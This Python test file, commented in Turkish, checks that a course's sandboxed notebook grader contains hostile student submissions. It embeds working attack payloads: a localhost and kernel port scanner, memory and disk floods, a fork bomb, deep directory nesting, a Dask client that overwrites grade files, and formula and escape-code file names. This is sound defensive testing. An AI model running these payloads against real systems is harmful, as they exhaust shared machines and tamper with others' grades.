"""Kapalı (mühürlü) toplu notlandırmaya saldırılar, gerçek ``wskurs notlandir`` ile.

Her gönderim kendi ağ ad alanında, kendi yargıcıyla, bubblewrap içinde ayrı bir uid ve tek bir cgroup
bütçesiyle çalışır. Bu dosya bunun her saldırı sınıfında tuttuğunu gösterir: sınıf arkadaşlarına ve
makineye ulaşılamaz, örnek çözümler yargıçta kalır, bellek/süreç/disk bütçesi gönderim başınadır,
süreç havuzu yine çalışır, kötü niyetli dosya adları raporları bozamaz, suç yalnızca suçlunundur
(bozuk notlandırıcıyı kanarya yakalar) ve Dask kümesine gönderimden ulaşılamaz.

Saldırılar çözülmemiş lab'ın ilk cevap hücresine eklenir; gözlemlerini bir istisnanın mesajına
(``GOZLEM{…}GOZLEM``) yazarlar, test onu gönderimin günlüğünden (``gunluk/<ad>.txt``) okur.
"""

from __future__ import annotations

import csv
import glob
import json
import os
import random
import re
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any

import nbformat
import pytest

from wskurs.checks import specs_of
from wskurs.engine.timing import scaled
from wskurs.grading.cgroup import find_root
from wskurs.grading.reports import csv_cell, display_name
from wskurs.grading.sandbox import detect
from wskurs.labformat import SubmissionStatus

from labtools import LABS, SOLUTIONS, answer_cells, read, submission

pytestmark = pytest.mark.kernel

LAB01 = "lab01_websocket_nedir.ipynb"
LAB04 = "lab04_asenkron_temeller.ipynb"
LAB01_MAX = sum(spec.points for spec in specs_of("lab01"))
LAB04_MAX = sum(spec.points for spec in specs_of("lab04"))
# Bellek saldırısı bütçeye hücre zaman aşımından önce varmalı: yüklü 2 çekirdekli bir makinede (make test
# öteki testlerle birlikte) 3 GiB'lık varsayılan bütçeye dek memfd yazmak 20 saniyeyi aşabiliyor. Sınıf
# bu yüzden öğretmenin seçebileceği daha küçük bir bütçeyle (--bellek) notlandırılır.
CELL_TIMEOUT = 20
MEMORY_MB = 1024
MARKER = f"wskurs-muhur-{uuid.uuid4().hex[:12]}"
SLEEP_MARK = f"0.{random.randrange(10**11, 10**12)}"
"""``sleep 30 0.XXXX`` süreçlerini tanımak için (``sleep`` süreleri toplar)."""
GIB = 1024**3
GRADED = SubmissionStatus.GRADED.value

_SANDBOX = detect()
if not _SANDBOX.seals_network or not _SANDBOX.uses_bwrap or _SANDBOX.budget is None:
    pytestmark = [
        pytest.mark.kernel,
        pytest.mark.skip(
            reason="bu makinede mühürlü notlandırma yok (root, bubblewrap, ağ ad alanı ve cgroup gerekir)"
        ),
    ]

# Saldırılar ---------------------------------------------------------------------------

LISTENING = """
def _dinleyen(yol):
    bulunan = set()
    try:
        for satir in open(yol).read().splitlines()[1:]:
            alan = satir.split()
            if len(alan) > 3 and alan[3] == "0A":
                bulunan.add(int(alan[1].rsplit(":", 1)[1], 16))
    except OSError as e:
        _gozlem.setdefault("hata", []).append(f"{yol}: {e}")
    return bulunan
"""
"""Saldırı kodunda: ``/proc/net/tcp`` benzeri bir dosyadan dinleyen (LISTEN) kapılar."""

_REPORT = """
import json
raise RuntimeError("GOZLEM" + json.dumps(_gozlem, ensure_ascii=True) + "GOZLEM")
"""

SCAN = (
    """
import json, os, socket, glob, importlib, time
_gozlem = {"cwd": os.getcwd(), "import": {}}
# 2. Örnek çözümler yargıçta kalır.
for _m in ["wskurs.checks.lab01", "wskurs.checks.lab05", "wskurs.checks.judge", "wskurs.grading.batch"]:
    try:
        _mod = importlib.import_module(_m)
        _gozlem["import"][_m] = "yuklendi:" + ",".join(sorted(n for n in vars(_mod) if not n.startswith("__")))[:200]
    except BaseException as _e:
        _gozlem["import"][_m] = type(_e).__name__
try:
    _gozlem["cozumler"] = sorted(os.listdir("SOLUTIONS"))
    _gozlem["cozum_metni"] = len(open("SOLUTIONS/lab01_websocket_nedir.ipynb").read())
except OSError as _e:
    _gozlem["cozumler"] = type(_e).__name__
# 1. Sınıf arkadaşları görünmez.
"""
    + LISTENING
    + """
_dinleyenler = _dinleyen("/proc/net/tcp") | _dinleyen("/proc/net/tcp6")
_gozlem["dinleyen"] = sorted(_dinleyenler)
def _dene(port, sure=0.05):
    s = socket.socket()
    s.settimeout(sure)
    try:
        s.connect(("127.0.0.1", port))
        return s
    except OSError as e:
        s.close()
        return type(e).__name__
_host = _dene(HOST_PORT, 1.0)
_gozlem["host"] = "ulasildi" if isinstance(_host, socket.socket) else _host
_baslangic = time.monotonic()
_adaylar = sorted(_dinleyenler | set(range(max(1, HOST_PORT - 1000), min(65536, HOST_PORT + 1000))))
_ulasilan = []
for _p in _adaylar:
    if time.monotonic() - _baslangic > 4:
        break
    _s = _dene(_p)
    if isinstance(_s, socket.socket):
        _ulasilan.append(_p)
        _s.close()
_gozlem["ulasilan"] = _ulasilan
_gozlem["taranan"] = len(_adaylar)
# Tarama sürerken çekirdek (ör. hata ayıklayıcı) yeni bir kapı açmış olabilir: sonrası da okunur.
_gozlem["dinleyen_sonra"] = sorted(_dinleyen("/proc/net/tcp") | _dinleyen("/proc/net/tcp6"))
_COP = [
    b"GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n",
    b"GET /ws HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n"
    b"Authorization: Bearer yanlis-belirtec\\r\\n\\r\\n",
    b"\\xff\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x7f\\x03\\x00NULL" + b"\\x00" * 48,
    os.urandom(64),
]
for _p in _ulasilan:
    for _veri in _COP:
        _s = _dene(_p, 0.2)
        if isinstance(_s, socket.socket):
            try:
                _s.sendall(_veri)
                _s.recv(64)
            except OSError:
                pass
            _s.close()
# Görebildiği her çekirdeğin ZMQ kapıları.
_dosyalar = set(glob.glob("/tmp/**/kernel-*.json", recursive=True))
_dosyalar |= set(glob.glob(os.path.expanduser("~") + "/**/kernel-*.json", recursive=True))
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _arg = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        _dosyalar |= {a.decode(errors="replace") for a in _arg if a.endswith(b".json") and b"kernel" in a}
_gozlem["cekirdek_dosyalari"] = sorted(_dosyalar)
for _yol in _dosyalar:
    try:
        _baglanti = json.load(open(_yol))
    except (OSError, ValueError):
        continue
    for _ad, _port in _baglanti.items():
        if _ad.endswith("_port"):
            _s = _dene(int(_port), 0.2)
            if isinstance(_s, socket.socket):
                _s.sendall(_COP[2])
                _s.close()
"""
    + _REPORT
)

MEMFD = (
    """
import subprocess, sys
_kod = '''
import os
blok = b"M" * (30 << 20)  # dosya boyu sınırının (32 MiB) altında: her parça kendi memfd'sinde
acik, yazilan = [], 0
for _ in range(46):  # süreç başına 1,35 GiB; üç süreç birlikte 4 GiB
    fd = os.memfd_create("dolgu")
    os.write(fd, blok)
    acik.append(fd)
    yazilan += len(blok)
print(yazilan)
# MARKER
'''
_surecler = [subprocess.Popen([sys.executable, "-c", _kod], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
             for _ in range(3)]
_gozlem = {"cikis": [p.wait() for p in _surecler], "yazilan": [p.stdout.read().decode() for p in _surecler],
           "hata": [p.stderr.read().decode()[-200:] for p in _surecler]}
"""
    + _REPORT
)

FORK_BOMB = (
    """
import subprocess
_surecler, _hata = [], None
for _ in range(2000):
    try:
        _surecler.append(subprocess.Popen(["sleep", "30", "SLEEP_MARK"]))
    except OSError as _e:
        _hata = f"{type(_e).__name__}: {_e}"
        break
_gozlem = {"baslatilan": len(_surecler), "hata": _hata}
"""
    + _REPORT
)

DISK = (
    """
import json
_gozlem = {}
for _yer in [".", "/tmp", "/dev/shm"]:
    _gozlem[_yer] = 0
    for _i in range(16):  # 16 × 32 MB = 512 MB her yerde
        try:
            with open(f"{_yer}/dolgu{_i}.bin", "wb") as _f:
                for _ in range(32):
                    _f.write(b"D" * 1_000_000)
            _gozlem[_yer] += 1
        except OSError as _e:
            _gozlem[_yer + ":hata"] = f"{type(_e).__name__}: {_e.strerror}"
            break
"""
    + _REPORT
)

DEEP = (
    """
import os
_gozlem = {"derinlik": 0}
_basta = os.getcwd()
try:
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
        _gozlem["derinlik"] += 1
    open("dip.txt", "w").write("x")
except OSError as _e:
    _gozlem["hata"] = f"{type(_e).__name__}: {_e.strerror}"
os.chdir(_basta)
"""
    + _REPORT
)

FAKE_TOTAL = "\x1b[31mKIRMIZI\x1b[0m\n```\n**Toplam: 99/99**\n````\n# Başlık\n"
ESCAPE = f"""
async def collect(url, n):
    raise ValueError({FAKE_TOTAL!r})
"""

DASK = (
    """
import json, socket
_gozlem = {"dask": {}}
"""
    + LISTENING
    + """
_gozlem["dinleyen"] = sorted(_dinleyen("/proc/net/tcp") | _dinleyen("/proc/net/tcp6"))
import distributed
def _yaz():
    import glob
    for yol in glob.glob("/tmp/**/notlar.*", recursive=True):
        open(yol, "w").write("999")
    return "yazildi"
import threading
def _dene(port):
    try:
        with distributed.Client(f"tcp://127.0.0.1:{port}", timeout="1s") as istemci:
            _gozlem["dask"][str(port)] = "baglandi:" + str(istemci.run(_yaz))
    except BaseException as e:
        _gozlem["dask"][str(port)] = type(e).__name__
for _port in [SCHEDULER_PORT, *_gozlem["dinleyen"][:1]]:
    _is = threading.Thread(target=_dene, args=(_port,), daemon=True)
    _is.start()
    _is.join(3)
    _gozlem["dask"].setdefault(str(_port), "zaman_asimi")
"""
    + _REPORT
)

PROCESS_POOL = """
import concurrent.futures

from wskurs.lessons.cpu_work import cpu_isi

havuz = concurrent.futures.ProcessPoolExecutor(max_workers=2)
hesap_app = FastAPI()


@hesap_app.websocket("/yanki")
async def yanki(websocket: WebSocket):
    await websocket.accept()
    try:
        while True:
            await websocket.send_text(await websocket.receive_text())
    except WebSocketDisconnect:
        pass


@hesap_app.websocket("/hesap")
async def hesap(websocket: WebSocket):
    await websocket.accept()
    loop = asyncio.get_running_loop()
    try:
        while True:
            mesaj = await websocket.receive_text()
            await loop.run_in_executor(havuz, cpu_isi, float(mesaj))
            await websocket.send_text("bitti")
    except WebSocketDisconnect:
        pass
"""

HYPERLINK = '=HYPERLINK("evil","y").ipynb'
"""Dosya adında / olamaz: formül yine de bir bağlantıdır."""
RED = "\x1b[31mkirmizi\x1b[0m.ipynb"
LONG = "ğ" * 124 + "a.ipynb"
"""UTF-8'de tam 255 bayt."""


def _fill(code: str, **values: object) -> str:
    for key, value in values.items():
        code = code.replace(key, str(value))
    return code.replace("MARKER", MARKER).replace("SLEEP_MARK", SLEEP_MARK)


def _honest(file_name: str, cells: dict[str, str] | None = None) -> Any:
    """Çözülmüş bir gönderim; ilk cevap hücresinde ``MARKER``'lı bir yorum (geride kalanı tanımak için)."""
    nb = submission(file_name, cells=cells)
    first = answer_cells(nb)[0][0]
    first.source = f"# {MARKER}\n" + first.source
    return nb


def _attack(file_name: str, code: str, exercise: str | None = None) -> Any:
    """Çözülmemiş lab; ``code`` ilk cevap hücresinin başında (ya da ``exercise``'ın hücresinin yerinde)."""
    lab = read(LABS / file_name)
    code = f"# {MARKER}\n" + code
    cells = answer_cells(lab)
    if exercise is None:
        cells[0][0].source = code.strip() + "\n\n" + cells[0][0].source
    else:
        next(cell for cell, ex in cells if ex == exercise).source = code.strip() + "\n"
    return lab


def _observation(output: Path, grade: dict[str, Any]) -> dict[str, Any]:
    log = (output / "gunluk" / f"{grade['output_stem']}.txt").read_text(encoding="utf-8")
    found = re.search(r"GOZLEM(\{.*?\})GOZLEM", log)
    assert found, log[-3000:]
    return json.loads(found.group(1))


def _marker_processes() -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    text = handle.read()
            except OSError:
                continue
            if MARKER.encode() in text or SLEEP_MARK.encode() in text:
                found.append(int(entry))
    return found


def _new_temp_folders(before: set[str]) -> set[str]:
    """Notlandırmadan sonra kalan yeni /tmp/wskurs-not-* klasörleri (aynı makinede başka bir notlandırma
    da çalışıyor olabilir: iki saniye sonra hâlâ duranlar)."""
    new = set(glob.glob("/tmp/wskurs-not-*")) - before
    if new:
        time.sleep(2)
    return {path for path in new if os.path.lexists(path) and _ours(Path(path))}


def _ours(folder: Path) -> bool:
    """Klasörde bu test dosyasının gönderimlerinden biri (``MARKER``'ı taşıyan) var mı?"""
    try:
        files = [p for p in folder.rglob("*") if p.is_file()]
        return any(MARKER.encode() in p.read_bytes() for p in files)
    except OSError:
        return True


def _cgroups_of(pid: int) -> list[str]:
    found: list[str] = []
    for controller in ("memory", "pids"):
        root = f"/sys/fs/cgroup/{controller}"
        found += glob.glob(f"{root}/**/wskurs-{pid}-*", recursive=True)
    return found


class _Sampler:
    """Notlandırma sürerken makinenin boş belleğini, /tmp diskinin kullanımını ve bu notlandırıcının her
    gönderim cgroup'unun bellek tepe değerini (v1 ``memory.max_usage_in_bytes``, v2 ``memory.peak``) ölçer."""

    def __init__(self) -> None:
        self.memory: list[int] = []
        self.disk: list[int] = []
        self.peaks: dict[str, int] = {}
        self.prefix: str | None = None
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        root = find_root()
        self.groups = root.memory if root is not None else None

    def _peaks(self) -> None:
        if self.groups is None or self.prefix is None:
            return
        for folder in self.groups.glob(self.prefix + "*"):
            for name in ("memory.max_usage_in_bytes", "memory.peak"):
                try:
                    value = int((folder / name).read_text().split()[0])
                except (OSError, ValueError, IndexError):
                    continue
                self.peaks[folder.name] = max(self.peaks.get(folder.name, 0), value)

    @staticmethod
    def available() -> int:
        with open("/proc/meminfo", encoding="ascii") as handle:
            for line in handle:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
        return 0

    def _run(self) -> None:
        while not self.done.is_set():
            self._peaks()
            self.memory.append(self.available())
            self.disk.append(shutil.disk_usage("/tmp").used)
            self.done.wait(0.1)


def _notlandir(
    lab: str, folder: Path, output: Path, *extra: str, env: dict[str, str] | None = None, jobs: int = 3
) -> dict[str, Any]:
    command = [sys.executable, "-m", "wskurs.grading.cli", "notlandir", str(LABS / lab), str(folder)]
    command += ["-o", str(output), "-j", str(jobs), "--zaman-asimi", str(CELL_TIMEOUT), *extra]
    sampler = _Sampler()
    tmp_before = set(glob.glob("/tmp/wskurs-not-*"))
    before_memory, before_disk = sampler.available(), shutil.disk_usage("/tmp").used
    sampler.thread.start()
    process = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=output.parent,
        env=env,
    )
    sampler.prefix = f"wskurs-{process.pid}-"
    try:
        stdout, stderr = process.communicate(timeout=scaled(600))
    finally:
        sampler.done.set()
        sampler.thread.join()
    grades: dict[str, Any] = {}
    if (output / "notlar.json").exists():
        data = json.loads((output / "notlar.json").read_text(encoding="utf-8"))
        grades = {g["submission"]: g for g in data["submissions"]}
    return {
        "stdout": stdout.decode("utf-8", "replace"),
        "stderr": stderr.decode("utf-8", "replace"),
        "raw": stdout + stderr,
        "returncode": process.returncode,
        "pid": process.pid,
        "grades": grades,
        "memory_drop": before_memory - min(sampler.memory or [before_memory]),
        "cgroup_peaks": sampler.peaks,
        "disk_growth": max(sampler.disk or [before_disk]) - before_disk,
        "tmp_before": tmp_before,
    }


class _HostServer:
    """Notlandırıcının makinesinde 127.0.0.1'de dinleyen bir TCP sunucusu: bağlanan sayılır."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.done.set()
        self.thread.join()
        self.sock.close()


# Sınıf: tek bir notlandırma ------------------------------------------------------------


@pytest.fixture(scope="module")
def classroom(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Saldırganlar, iki dürüst sınıf arkadaşı ve kötü niyetli adlar tek bir `notlandir -j 3` çalışmasında;
    PATH'in başında yalıtılmış görünümün dışını gösteren bir ``prlimit`` bağı var."""
    root = tmp_path_factory.mktemp("muhurlu")
    folder = root / "gonderimler"
    folder.mkdir()
    server = _HostServer()
    attacks = {
        "tarayici.ipynb": _attack(LAB01, _fill(SCAN, HOST_PORT=server.port, SOLUTIONS=SOLUTIONS)),
        "bellek.ipynb": _attack(LAB01, _fill(MEMFD)),
        "catal.ipynb": _attack(LAB01, _fill(FORK_BOMB)),
        "disk.ipynb": _attack(LAB01, _fill(DISK)),
        "derin.ipynb": _attack(LAB01, _fill(DEEP)),
        "kacis.ipynb": _attack(LAB01, ESCAPE, exercise="1.3"),
        "kurban.ipynb": _honest(LAB01),
        "durust.ipynb": _honest(LAB01),
    }
    for name, nb in attacks.items():
        nbformat.write(nb, folder / name)
    for name in (HYPERLINK, RED, "kurban.zzz", LONG):
        (folder / name).write_text("bu bir defter değil\n", encoding="utf-8")
    outside = root / "disarida.ipynb"
    nbformat.write(submission(LAB01), outside)
    (folder / "bag.ipynb").symlink_to(outside)
    (root / "liste.csv").write_text(
        "ogrenci_no,ad,eposta,dosya\n"
        "1001,Kurban Kaya,k@okul.edu.tr,kurban\n"
        "1002,Dürüst Can,d@okul.edu.tr,durust.ipynb\n",
        encoding="utf-8",
    )
    # prlimit: PATH'teki bağ, bubblewrap'ın göstermediği bir kopyayı gösterir.
    real = root / "gercek"
    real.mkdir()
    shutil.copy2(shutil.which("prlimit") or "/usr/bin/prlimit", real / "prlimit")
    links = root / "yol"
    links.mkdir()
    (links / "prlimit").symlink_to(real / "prlimit")
    env = {**os.environ, "PATH": f"{links}{os.pathsep}{os.environ.get('PATH', '')}"}
    output = root / "cikti"
    try:
        result = _notlandir(
            LAB01, folder, output, "--liste", str(root / "liste.csv"), "--bellek", str(MEMORY_MB), env=env
        )
    finally:
        server.close()
    result.update(folder=folder, output=output, host_accepted=server.accepted, host_port=server.port)
    return result


def test_classroom_run_finishes(classroom: dict[str, Any]) -> None:
    """Bütün saldırılara ve PATH'teki dışarıyı gösteren ``prlimit`` bağına rağmen notlandırma biter
    (çıkış kodu 0, kanarya geçti): yardımcı programlar gerçek yollarına çözülüp bağlanır."""
    assert classroom["returncode"] == 0, classroom["stderr"][-3000:]
    assert (classroom["output"] / "notlar.csv").is_file()


def test_honest_classmates_keep_full_marks(classroom: dict[str, Any]) -> None:
    """Aynı anda notlandırılan iki dürüst sınıf arkadaşı tam puan ve "notlandırıldı" durumu alır."""
    for name in ("kurban.ipynb", "durust.ipynb"):
        grade = classroom["grades"][name]
        assert (grade["total"], grade["status"]) == (LAB01_MAX, GRADED), grade


@pytest.mark.parametrize("name", ["tarayici", "bellek", "catal", "disk", "derin", "kacis"])
def test_attackers_earn_nothing_they_did_not_solve(classroom: dict[str, Any], name: str) -> None:
    """Saldırgan çözmediği alıştırmalardan puan almaz (``kacis`` yalnızca 1.3'ü bozar: orada 0)."""
    grade = classroom["grades"][f"{name}.ipynb"]
    scores = {row["exercise"]: row["earned"] for row in grade["exercises"]}
    if name == "kacis":
        assert scores["1.3"] == 0, grade
    else:
        assert grade["total"] == 0, grade


def test_scanner_reaches_nothing_outside_its_pod(classroom: dict[str, Any]) -> None:
    """Kapı tarayan saldırgan yalnızca kendi ad alanını görür: makinedeki sunucu bağlantıyı reddeder ve
    hiç bağlantı almaz, /proc/net/tcp'de makinenin kapıları yoktur, gördüğü tek çekirdek dosyası kendi
    klasöründedir."""
    seen = _observation(classroom["output"], classroom["grades"]["tarayici.ipynb"])
    assert seen["host"] == "ConnectionRefusedError", seen
    assert classroom["host_accepted"] == 0
    assert classroom["host_port"] not in seen["dinleyen"], seen
    assert classroom["host_port"] not in seen["ulasilan"], seen
    assert set(seen["ulasilan"]) <= set(seen["dinleyen"]) | set(seen["dinleyen_sonra"]), seen
    assert classroom["host_port"] not in seen["dinleyen_sonra"], seen
    assert seen["taranan"] >= 2000 and len(seen["dinleyen"]) < 20, seen
    assert all(path.startswith(seen["cwd"]) for path in seen["cekirdek_dosyalari"]), seen


def test_reference_code_stays_with_the_judge(classroom: dict[str, Any]) -> None:
    """Çekirdekte kontrol modülleri ve notlandırıcı yüklenemez (ModuleNotFoundError); solutions/ okunamaz."""
    seen = _observation(classroom["output"], classroom["grades"]["tarayici.ipynb"])
    assert set(seen["import"].values()) == {"ModuleNotFoundError"}, seen["import"]
    assert seen["cozumler"] in ("FileNotFoundError", "PermissionError"), seen


def test_memfd_flood_is_stopped_by_the_budget(classroom: dict[str, Any]) -> None:
    """Üç süreçle memfd'ye 4 GiB yazmaya çalışan gönderim bellek bütçesine (``--bellek``) dayanır (Türkçe
    not/neden) ve makinenin boş belleği bütçeden fazla düşmez."""
    grade = classroom["grades"]["bellek.ipynb"]
    said = " ".join([grade["reason"], *grade["notes"]])
    assert "bellek bütçe" in said, grade
    # Makinenin boş belleği, aynı anda koşan başka testler yüzünden de düşer: sınır her gönderimin kendi
    # cgroup'unda ölçülür (hiçbirinin tepe değeri bütçeyi aşmaz; bellek saldırısınınki bütçeye dayandı).
    peaks = classroom["cgroup_peaks"]
    if find_root() is not None:
        budget = MEMORY_MB * 1024 * 1024
        assert peaks and max(peaks.values()) <= budget, peaks
        assert max(peaks.values()) >= budget * 0.9, peaks
    assert f"{MEMORY_MB} MB bellek" in classroom["stdout"], classroom["stdout"][:2000]


def test_fork_bomb_is_refused_by_the_process_budget(classroom: dict[str, Any]) -> None:
    """2000 süreç açmaya çalışan gönderim süreç bütçesinde (512) durdurulur ve bu nota yazılır."""
    grade = classroom["grades"]["catal.ipynb"]
    seen = _observation(classroom["output"], grade)
    assert seen["baslatilan"] < 512 and seen["hata"], seen
    assert "süreç bütçe" in " ".join([grade["reason"], *grade["notes"]]), grade


def test_disk_flood_stays_in_a_small_tmpfs(classroom: dict[str, Any]) -> None:
    """Klasörüne, /tmp'ye ve /dev/shm'ye 32 MB'lık dosyalar yazan gönderim her yerde tmpfs sınırına
    (ENOSPC) dayanır; makinenin diski 300 MB'tan fazla büyümez."""
    seen = _observation(classroom["output"], classroom["grades"]["disk.ipynb"])
    for place in (".", "/tmp", "/dev/shm"):
        assert seen[place] < 16 and "No space" in seen[f"{place}:hata"], seen
    assert classroom["disk_growth"] < 300 * 1024 * 1024, classroom["disk_growth"]


def test_nothing_is_left_behind(classroom: dict[str, Any]) -> None:
    """Notlandırmadan sonra hiçbir gönderim süreci, bu notlandırıcının cgroup klasörü ve yeni bir
    /tmp/wskurs-not-* klasörü kalmaz; 1500 katlı klasör ağacı da (o kadar derine inildi) silinmiştir."""
    seen = _observation(classroom["output"], classroom["grades"]["derin.ipynb"])
    assert seen["derinlik"] == 1500, seen
    assert _marker_processes() == []
    assert _cgroups_of(classroom["pid"]) == []
    assert _new_temp_folders(classroom["tmp_before"]) == set()
    for grade in classroom["grades"].values():
        assert not any("silinemedi" in note or "temizlenemedi" in note for note in grade["notes"]), grade


def test_hostile_names_are_all_in_the_gradebook(classroom: dict[str, Any]) -> None:
    """Kötü niyetli adların hepsi notlar.json'da (özgün adıyla) ve notlar.csv'de (temiz adıyla) yer alır;
    hiçbir CSV hücresi formül gibi başlamaz."""
    names = {p.name for p in classroom["folder"].iterdir()}
    assert set(classroom["grades"]) == names
    with (classroom["output"] / "notlar.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert {row[0] for row in rows[1:]} == {csv_cell(display_name(name)) for name in names}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows


def test_no_escape_codes_reach_any_output(classroom: dict[str, Any]) -> None:
    """Terminal kaçış dizileri (adda ya da istisna mesajında) ne stdout/stderr'e ne CSV'ye ne de geri
    bildirim ve günlük dosyalarına ulaşır."""
    assert b"\x1b" not in classroom["raw"]
    output = classroom["output"]
    files = [output / "notlar.csv", output / "eslesme.md", output / "moodle.csv", output / "canvas.csv"]
    files += [*(output / "geri_bildirim").iterdir(), *(output / "gunluk").iterdir()]
    for path in files:
        assert b"\x1b" not in path.read_bytes(), path


def test_victim_beside_junk_keeps_full_marks(classroom: dict[str, Any]) -> None:
    """``kurban.ipynb`` yanında ``kurban.zzz`` (çöp) olsa da tam puan alır ve geri bildirimi bunu söyler;
    dışarıyı gösteren sembolik bağ okunmaz ("sembolik bağ"), 255 baytlık ad da bir satır alır."""
    grades = classroom["grades"]
    victim = grades["kurban.ipynb"]
    feedback = (classroom["output"] / "geri_bildirim" / f"{victim['output_stem']}.md").read_text(encoding="utf-8")
    assert f"**Toplam: {LAB01_MAX}/{LAB01_MAX} puan**" in feedback
    assert grades["kurban.zzz"]["status"] == SubmissionStatus.NOT_A_NOTEBOOK.value
    link = grades["bag.ipynb"]
    assert link["total"] == 0 and "sembolik bağ" in link["reason"], link
    assert grades[LONG]["status"] == SubmissionStatus.NOT_A_NOTEBOOK.value
    assert len(os.fsencode(LONG)) == 255


def _outside_fences(text: str) -> list[str]:
    """CommonMark çitli kod bloklarının dışında kalan satırlar (kapanış çiti en az açılış kadar uzun)."""
    outside, fence = [], ""
    for line in text.splitlines():
        stripped = line.strip()
        run = re.fullmatch(r"(`{3,})", stripped)
        if not fence:
            if run:
                fence = run.group(1)
            else:
                outside.append(line)
        elif run and len(run.group(1)) >= len(fence):
            fence = ""
    return outside


def test_fake_total_stays_inside_a_code_block(classroom: dict[str, Any]) -> None:
    """İstisna mesajındaki kapanış çiti ve sahte "**Toplam: 99/99**" geri bildirimde yalnızca kod
    bloğunun içinde görünür; bloğun dışındaki tek toplam gerçek olandır."""
    grade = classroom["grades"]["kacis.ipynb"]
    text = (classroom["output"] / "geri_bildirim" / f"{grade['output_stem']}.md").read_text(encoding="utf-8")
    assert "Toplam: 99/99" in text, text
    totals = [line for line in _outside_fences(text) if "Toplam" in line]
    assert totals == [f"**Toplam: {grade['total']}/{LAB01_MAX} puan**"], text


def test_roster_stem_matching_two_files_is_ambiguous(classroom: dict[str, Any]) -> None:
    """Listede dosyası ``kurban`` olan öğrenci ``kurban.ipynb`` ve ``kurban.zzz``'ye uyar: eslesme.md onu
    belirsiz listeler, Moodle'da notu boştur (0 değil)."""
    output = classroom["output"]
    report = (output / "eslesme.md").read_text(encoding="utf-8")
    assert "## Birden çok gönderimle eşleşen öğrenciler: not verilmedi (1)" in report, report
    assert f"  - kurban.ipynb: {LAB01_MAX}/{LAB01_MAX} puan" in report and "  - kurban.zzz: 0/" in report
    with (output / "moodle.csv").open(encoding="utf-8", newline="") as handle:
        moodle = {row[0]: row for row in csv.reader(handle)}
    assert moodle["1001"][4] == "" and "Birden çok gönderim" in moodle["1001"][5], moodle


# Bozuk notlandırıcı: suç öğrencinin değil -------------------------------------------------


def test_broken_sandbox_is_caught_by_the_canary(tmp_path: Path) -> None:
    """Yoklamayı geçen ama notlandırmada çöken bir ``bwrap`` (PATH'in başında) kanaryaya takılır: çıkış
    kodu 2, Türkçe "Hata: Lab'ın çözümü …", notlar.csv yazılmaz, kimse notlandırılmaz ya da şüpheli olmaz."""
    real = shutil.which("bwrap")
    assert real is not None
    wrappers = tmp_path / "sahte"
    wrappers.mkdir()
    wrapper = wrappers / "bwrap"
    wrapper.write_text(
        "#!/bin/sh\n"
        "for son; do :; done\n"
        f'if [ "$son" = true ]; then exec {real} "$@"; fi\n'
        'echo "bwrap: simulated failure" >&2\n'
        "exit 1\n",
        encoding="utf-8",
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    folder = tmp_path / "gonderimler"
    folder.mkdir()
    nbformat.write(submission(LAB01), folder / "ogrenci.ipynb")
    env = {**os.environ, "PATH": f"{wrappers}{os.pathsep}{os.environ.get('PATH', '')}"}
    output = tmp_path / "cikti"
    result = _notlandir(LAB01, folder, output, env=env, jobs=2)
    assert result["returncode"] == 2, result["stderr"][-3000:]
    assert "Hata: Lab'ın çözümü" in result["stderr"] and "hiçbir öğrenci notlandırılmadı" in result["stderr"]
    assert not (output / "notlar.csv").exists()
    assert result["grades"] == {}
    assert SubmissionStatus.SUSPICIOUS.value not in result["stdout"] + result["stderr"]


# Dask ve süreç havuzu ------------------------------------------------------------------


@pytest.fixture(scope="module")
def dask_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Lab 4, iki işçi süreçli bir Dask kümesinde: planlayıcıya bağlanmaya çalışan saldırgan ve 4.3'ü
    süreç havuzuyla çözen dürüst bir sınıf arkadaşı."""
    distributed = pytest.importorskip("distributed")
    root = tmp_path_factory.mktemp("muhurlu_dask")
    folder = root / "gonderimler"
    folder.mkdir()
    nbformat.write(_honest(LAB04, cells={"4.3": PROCESS_POOL}), folder / "havuz.ipynb")
    with distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, host="127.0.0.1", dashboard_address=None
    ) as cluster:
        address = cluster.scheduler_address
        port = int(address.rsplit(":", 1)[1])
        nbformat.write(_attack(LAB04, _fill(DASK, SCHEDULER_PORT=port)), folder / "dask_saldiri.ipynb")
        output = root / "cikti"
        # Kanarya bu testin konusu değil (kapalı sınıf çalışması ve bozuk bubblewrap denemesi onu sınar); iki
        # işçili kümede üçüncü bir lab 4 notlandırması süreyi ikiye katlardı.
        result = _notlandir(LAB04, folder, output, "--dask", address, "--zaman-asimi", "20", "--kanaryasiz", jobs=2)
    result.update(output=output)
    return result


